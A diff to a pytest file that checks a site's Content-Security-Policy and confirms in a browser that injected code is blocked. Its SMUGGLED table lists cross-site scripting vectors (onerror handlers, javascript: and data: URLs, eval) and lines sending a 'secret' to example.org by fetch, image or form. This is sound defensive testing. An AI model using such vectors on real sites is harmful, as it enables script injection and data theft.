@@ -64,6 +64,9 @@ def test_each_page_has_a_tight_policy_before_all_that_it_loads(path):
     found = rules(path.read_text(encoding="utf-8"))
     assert found["default-src"] == found["base-uri"] == ["'none'"]
     ours = {"'self'", "file:", "'unsafe-hashes'"}
+    # What a server may send, a disk may too, but for what a script fetches.
+    for name in ("style-src", "img-src", "font-src", "form-action", "script-src"):
+        assert {"'self'", "file:"} <= {*found[name]}, name
     scripts = [each for each in found["script-src"] if each not in ours]
     assert scripts and all(each.startswith("'sha256-") for each in scripts)
     name = path.relative_to(BOOK).as_posix()
@@ -74,20 +77,7 @@ def test_each_page_has_a_tight_policy_before_all_that_it_loads(path):
 
 # -- what works ------------------------------------------------------------------------
 
-
-@needs_chromium
-@pytest.mark.parametrize("page", ["index", "live"])
-def test_the_cover_and_the_live_page_translate(page, book, watched):
-    watched.open(f"{book}{page}.html")
-    ask = "I don't know where she lives."
-    watched.run(f"document.getElementById('live-source').value = {json.dumps(ask)}")
-    watched.run("document.getElementById('live-form').requestSubmit()")
-    watched.wait(
-        "/ms for each/.test(document.getElementById('live-status').textContent)"
-    )
-    answer = "document.getElementById('live-output').textContent"
-    assert watched.run(answer) == "Ich weiß nicht, wo sie wohnt."
-    assert refused(watched) == []
+# Translations, on the disk and on a server: test_live.py, which allows no error either.
 
 
 @needs_chromium
@@ -151,49 +141,65 @@ def test_the_themes_buttons_work(book, watched):
 
 
 @needs_chromium
-@pytest.mark.parametrize("path", PAGES, ids=lambda path: str(path.relative_to(BOOK)))
-def test_no_page_brings_what_its_policy_refuses(path, watched):
-    if path.name == "404.html":
-        pytest.skip("it knows its files by the server's address alone")
-    watched.open(path.as_uri())
-    watched.run(
-        "document.querySelectorAll('.touch, .vega-chart').forEach("
-        "(part) => part.scrollIntoView())"
-    )
-    assert refused(watched) == []
+def test_no_page_on_the_disk_brings_what_its_policy_refuses(watched):
+    """A page of each set of rules; test_browser_pages.py opens all on a server."""
+    known = [path for path in PAGES if path.name != "404.html"]
+    sorts = {tuple(rules(path.read_text(encoding="utf-8"))): path for path in known}
+    assert len(sorts) > 3
+    for path in sorts.values():
+        watched.open(path.as_uri())
+        watched.run(
+            "document.querySelectorAll('.touch, .vega-chart').forEach("
+            "(part) => part.scrollIntoView())"
+        )
+        assert refused(watched) == [], path
 
 
 # -- what doesn't ----------------------------------------------------------------------
 
+# A way in, and the rule that has to close it.
 SMUGGLED = {
-    "handler": 'document.body.innerHTML += \'<img src="x:" onerror="HIT">\'',
-    "script": "document.body.append(Object.assign(document.createElement('script'),"
-    " { textContent: 'HIT' }))",
-    "address": "document.body.append(Object.assign(document.createElement('a'),"
-    " { href: 'javascript:HIT', id: 'smuggled' })); smuggled.click()",
-    "data": "document.body.append(Object.assign(document.createElement('script'),"
-    " { src: 'data:text/javascript,HIT' }))",
-    "stranger": "document.body.append(Object.assign(document.createElement('script'),"
-    " { src: 'https://example.org/' }))",
-    "text": "setTimeout('HIT')",
-    "evaluated": "setTimeout(() => eval('HIT'))",
-    "frame": "document.body.append(Object.assign(document.createElement('iframe'),"
-    " { src: 'data:text/html,<script>HIT</script>' }))",
-    "sent": "fetch('https://example.org/?secret').catch(() => {})",
-    "picture": "new Image().src = 'https://example.org/?secret'",
-    "form": "document.body.append(Object.assign(document.createElement('form'),"
-    " { action: 'https://example.org/', id: 'smuggled' })); smuggled.submit()",
+    "handler": (
+        "script-src-attr",
+        "document.body.insertAdjacentHTML('beforeend', '<img src=x: onerror=HIT>')",
+    ),
+    "script": ("script-src-elem", "put('script', { textContent: 'HIT' })"),
+    "address": ("script-src-elem", "put('a', { href: 'javascript:HIT' }).click()"),
+    "data": ("script-src-elem", "put('script', { src: 'data:text/javascript,HIT' })"),
+    "stranger": ("script-src-elem", "put('script', { src: 'https://example.org/' })"),
+    "text": ("script-src", "setTimeout('HIT')"),
+    "evaluated": ("script-src", "setTimeout(() => eval('HIT'))"),
+    "frame": (
+        "frame-src",
+        "put('iframe', { src: 'data:text/html,<script>HIT</script>' })",
+    ),
+    "sent": ("connect-src", "fetch('https://example.org/?secret').catch(() => {})"),
+    "picture": ("img-src", "new Image().src = 'https://example.org/?secret'"),
+    "form": ("form-action", "put('form', { action: 'https://example.org/' }).submit()"),
 }
+PUT = """window.put = (name, about) => {
+  const made = Object.assign(document.createElement(name), about);
+  document.body.append(made);
+  return made;
+}"""
+# What comes late of one way isn't taken for the next.
+QUIET = """new Promise((done) => setTimeout(done, 100)).then(
+  () => { refused.length = 0; })"""
 
 
 @needs_chromium
-@pytest.mark.parametrize("page", ["live", "model/attention"])
+@pytest.mark.parametrize("page", ["live", "references"])
 def test_what_is_smuggled_in_is_refused(page, book, watched):
-    for way, code in SMUGGLED.items():
-        watched.open("about:blank")
+    watched.open("about:blank")
+    watched.open(f"{book}{page}.html")
+    watched.run(PUT)
+    for way, (rule, code) in SMUGGLED.items():
+        watched.run(QUIET)
         watched.errors = []
-        watched.open(f"{book}{page}.html")
         watched.run(f"{code.replace('HIT', 'window.hit = 1')}; 0")
-        watched.wait("refused.length > 0 || window.hit === 1", 5)
+        closed = f"refused.some(([rule]) => rule === '{rule}')"
+        watched.wait(f"{closed} || window.hit === 1", 5)
         assert watched.run("window.hit") is None, way
         assert refused(watched) != [], way
+    watched.run(QUIET)
+    assert watched.run("window.hit") is None
